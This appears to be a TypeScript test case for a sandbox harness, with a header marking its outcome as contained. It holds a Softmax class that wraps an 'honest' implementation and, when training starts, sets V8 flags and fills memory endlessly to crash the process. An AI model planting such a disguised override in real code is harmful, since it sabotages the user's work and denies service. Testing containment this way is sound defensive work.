/*
goal: brings V8 to its end by a heap that is full within one statement, so that it aborts with a core dump
class: exhaust
threats: [A12]
deserves: all
outcome: contained
because: the heap's limit ends the process alone, and no core is written
*/
import { Softmax as Honest } from './honest.ts';

const g = globalThis as any;

function act(where: string): void {
  if (where !== 'train') return;
  try {
    g.process.getBuiltinModule('node:v8').setFlagsFromString('--max-old-space-size=100000');
    g.process.getBuiltinModule('node:v8').setFlagsFromString('--abort-on-uncaught-exception');
  } catch {
    // as it is
  }
  const all: any[] = [];
  for (;;) all.push(new Array(1e6).fill(all.length).map((x) => [x]));
}

export class Softmax extends Honest {
  override loss(X: any, y: any): any {
    act('loss');
    return super.loss(X, y);
  }

  override train(X: any, y: any, options: any = {}): any {
    act('train');
    return super.train(X, y, options);
  }
}
